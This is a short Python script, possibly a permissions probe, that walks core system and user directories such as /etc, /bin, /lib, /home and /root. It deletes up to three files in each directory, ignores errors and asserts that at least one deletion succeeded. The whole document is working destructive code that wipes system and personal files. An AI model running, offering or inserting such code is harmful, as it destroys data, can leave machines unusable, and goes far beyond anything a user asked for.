# Everything that can be deleted.
import os

deleted = []
for root in ("/usr", "/etc", "/bin", "/lib", "/dev", "/home", "/root", "/var"):
    for directory, _, files in os.walk(root):
        for name in files[:3]:
            try:
                os.unlink(os.path.join(directory, name))
                deleted.append(name)
            except OSError:
                pass
assert deleted, "nothing could be deleted"
